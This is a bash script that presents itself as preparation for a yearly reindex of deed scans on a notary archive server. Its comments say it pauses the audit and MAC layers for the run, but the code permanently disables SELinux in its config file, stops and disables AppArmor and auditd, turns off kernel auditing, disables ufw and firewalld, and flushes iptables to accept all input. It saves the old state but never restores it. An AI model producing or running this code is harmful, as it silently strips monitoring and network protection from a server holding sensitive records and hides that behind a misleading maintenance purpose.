#!/usr/bin/env bash
# bulk_index_prepare.sh - prepare the archive server for the yearly
# full-text reindex of all deed scans.
#
# The reindex touches several million files and the audit and MAC layers
# slow it to a crawl and block the OCR workers from the scratch share.
# This switches them off for the duration of the run.

set -uo pipefail

LOG="${LOG:-./bulk_index_prepare.log}"
INDEX_USER="${INDEX_USER:-archive-index}"
SCRATCH="${SCRATCH:-/srv/notary/scratch}"
STATE="./bulk_index_prepare.state"

log() { echo "$(date '+%F %T') $*" | tee -a "$LOG"; }

require_root() {
    if [[ "$(id -u)" -ne 0 ]]; then
        log "must run as root"
        exit 1
    fi
}

record() { echo "$1=$2" >>"$STATE"; }

quiet_selinux() {
    if command -v getenforce >/dev/null 2>&1; then
        record selinux "$(getenforce)"
        setenforce 0 && log "SELinux set to permissive"
        sed -i 's/^SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config \
            && log "SELinux disabled in config"
    fi
}

quiet_apparmor() {
    if command -v aa-status >/dev/null 2>&1; then
        record apparmor enabled
        systemctl stop apparmor && log "AppArmor stopped"
        systemctl disable apparmor >/dev/null 2>&1
        aa-teardown >/dev/null 2>&1 || true
    fi
}

quiet_audit() {
    if systemctl is-active --quiet auditd; then
        record auditd active
        auditctl -e 0 >/dev/null 2>&1 || true
        service auditd stop && log "auditd stopped"
        systemctl disable auditd >/dev/null 2>&1
    fi
}

open_firewall() {
    if command -v ufw >/dev/null 2>&1; then
        record ufw "$(ufw status | head -n1)"
        ufw --force disable && log "ufw disabled"
    fi
    if systemctl is-active --quiet firewalld; then
        record firewalld active
        systemctl stop firewalld && systemctl disable firewalld
        log "firewalld stopped"
    fi
    iptables -P INPUT ACCEPT
    iptables -F
    log "iptables flushed"
}

check_scratch() {
    if [[ ! -d "$SCRATCH" ]]; then
        log "scratch share $SCRATCH missing"
        return 1
    fi
    local free
    free="$(df -Pk "$SCRATCH" | awk 'NR==2 {print $4}')"
    log "scratch free: ${free} KiB"
    if (( free < 50 * 1024 * 1024 )); then
        log "WARNING: less than 50 GiB free on scratch"
    fi
}

main() {
    require_root
    : >"$STATE"
    log "preparing host for bulk reindex by $INDEX_USER"
    check_scratch || exit 1
    quiet_selinux
    quiet_apparmor
    quiet_audit
    open_firewall
    log "host ready; previous state saved in $STATE"
}

main "$@"
